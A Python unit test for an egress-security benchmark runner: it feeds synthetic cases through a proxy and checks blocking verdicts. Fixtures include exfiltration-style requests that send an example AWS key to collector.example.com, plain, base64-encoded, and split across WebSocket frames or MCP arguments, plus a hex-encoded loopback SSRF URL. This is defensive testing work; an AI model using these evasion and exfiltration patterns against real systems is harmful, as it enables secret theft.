"""bench/egress/run, the agent-egress-bench runner, on a case directory this test writes in
the corpus's format (its own cases, not the corpus's): each applicable case goes through a real
`airlock proxy` to a loopback origin, results are JSONL in the corpus's result schema, and the
summary ends with the one line `containment P% (B/M), false positives Q% (F/N), K not
applicable`. The public corpus itself is run by the ctest bench_egress_corpus when it is
checked out beside the project."""

import json
import os
import re
import subprocess
import tempfile
import unittest

from harness import env

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
RUNNER = os.path.join(ROOT, "bench", "egress", "run")
RESULT_KEYS = {"case_id", "tool", "tool_version", "expected_verdict", "actual_verdict", "score",
               "evidence", "notes"}
LINE = re.compile(r"^containment (\d+\.\d|n/a)%? \((\d+)/(\d+)\), false positives "
                  r"(\d+\.\d|n/a)%? \((\d+)/(\d+)\), (\d+) not applicable$")


def case(cid, category, verdict, payload, tags=("url_dlp",), transport="fetch_proxy",
         requires=(), input_type="url"):
    return {"schema_version": 1, "id": cid, "category": category, "title": cid,
            "description": "synthetic", "input_type": input_type, "transport": transport,
            "payload": payload, "expected_verdict": verdict, "severity": "low",
            "capability_tags": list(tags), "requires": list(requires),
            "false_positive_risk": "low", "why_expected": "synthetic", "notes": "",
            "source": "test_egress_bench"}


CASES = [
    case("t-url-key", "url", "block",
         {"method": "GET", "url": "https://collector.example.com/a?k=AKIAIOSFODNN7EXAMPLE"}),
    case("t-url-b64", "url", "block",
         {"method": "GET", "url": "https://collector.example.com/a?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU="}),
    case("t-body-key", "request_body", "block",
         {"method": "POST", "url": "https://collector.example.com/up",
          "content_type": "application/json", "body": "{\"k\": \"AKIAIOSFODNN7EXAMPLE\"}"},
         tags=("request_body_dlp",), requires=("request_body_scanning",)),
    case("t-ssrf", "ssrf_bypass", "block", {"method": "GET", "url": "http://0x7f000001/admin"},
         tags=("ssrf_bypass",)),
    case("t-benign", "url", "allow",
         {"method": "GET", "url": "https://api.example.com/repos?page=2&sort=updated"},
         tags=("url_dlp", "benign")),
    case("t-benign-body", "request_body", "allow",
         {"method": "POST", "url": "https://api.example.com/events",
          "content_type": "application/json", "body": "{\"title\": \"standup\"}"},
         tags=("request_body_dlp", "benign")),
    case("t-ws", "websocket_dlp", "block",
         {"url": "ws://collector.example.com/ws",
          "frames": [{"opcode": "text", "fin": False, "payload": "k=AKIAIOSFO"},
                     {"opcode": "continuation", "payload": "DNN7EXAMPLE"}]},
         tags=("websocket_dlp",), requires=("websocket_frame_scanning",),
         transport="websocket"),
    case("t-ws-benign", "websocket_dlp", "allow",
         {"url": "ws://chat.example.com/ws",
          "frames": [{"opcode": "text", "payload": "has anyone reviewed the pull request?"}]},
         tags=("websocket_dlp", "benign"), requires=("websocket_frame_scanning",),
         transport="websocket"),
    # MCP over streamable HTTP: a secret split across two arguments, and an ordinary call.
    case("t-mcp-split", "mcp_input", "block", {"jsonrpc_messages": [
        {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {}},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
            "name": "create_config",
            "arguments": {"access_key": "AKIAIOSFODNN", "key_suffix": "7EXAMPLE"}}}]},
         tags=("mcp_input_scan",), transport="mcp_http", input_type="mcp_tool_call"),
    case("t-mcp-benign", "mcp_input", "allow", {"jsonrpc_messages": [
        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
            "name": "read_file", "arguments": {"path": "/workspace/README.md"}}}]},
         tags=("mcp_input_scan", "benign"), transport="mcp_http", input_type="mcp_tool_call"),
]


class EgressBenchRunnerTest(unittest.TestCase):
    def test_runs_a_case_directory_and_prints_the_line(self):
        with tempfile.TemporaryDirectory(prefix="airlock-egress-cases-") as d:
            os.makedirs(os.path.join(d, "url"))
            for c in CASES[:2]:
                with open(os.path.join(d, "url", c["id"] + ".json"), "w") as f:
                    json.dump(c, f)
            # The rest as JSONL, which the runner reads too.
            with open(os.path.join(d, "more.jsonl"), "w") as f:
                for c in CASES[2:]:
                    f.write(json.dumps(c) + "\n")
            results = os.path.join(d, "results.jsonl")
            r = subprocess.run([RUNNER, "--cases", d, "--results", results],
                               capture_output=True, text=True, timeout=env.t(240),
                               env=dict(os.environ, ASAN_OPTIONS="detect_leaks=0"))
            self.assertEqual(r.returncode, 0, r.stderr)
            last = r.stdout.strip().splitlines()[-1]
            m = LINE.match(last)
            self.assertIsNotNone(m, last)
            self.assertEqual(last, "containment 100.0% (6/6), false positives 0.0% (0/4), "
                             "0 not applicable", r.stdout)
            self.assertIn("results: 10 passed, 0 failed, 0 not_applicable, 0 errors (10 total)",
                          r.stderr)
            with open(results) as f:
                rows = [json.loads(line) for line in f]
            self.assertEqual(len(rows), len(CASES))
            for row in rows:
                self.assertEqual(set(row), RESULT_KEYS, row)
            by_id = {row["case_id"]: row for row in rows}
            self.assertEqual(by_id["t-url-key"]["evidence"]["reason"], "dlp_blocked")
            self.assertEqual(by_id["t-ssrf"]["evidence"]["reason"], "destination_ip_prohibited")
            self.assertEqual(by_id["t-benign"]["actual_verdict"], "allow")
            # A secret split across the fragments of one WebSocket message: closed 1008.
            self.assertEqual(by_id["t-ws"]["actual_verdict"], "block")
            self.assertEqual(by_id["t-ws"]["evidence"]["close_code"], 1008)
            self.assertIn("dlp_blocked", by_id["t-ws"]["evidence"]["reason"])
            self.assertEqual(by_id["t-ws-benign"]["actual_verdict"], "allow")
            self.assertEqual(by_id["t-mcp-split"]["evidence"]["reason"], "dlp_blocked")
            self.assertEqual(by_id["t-mcp-split"]["evidence"]["jsonrpc_error"], -32002)
            self.assertEqual(by_id["t-mcp-benign"]["actual_verdict"], "allow")
            # Per-category rows come before the line.
            self.assertRegex(r.stdout, r"(?m)^request_body\s+100\.0% \(1/1\)")


if __name__ == "__main__":
    unittest.main()
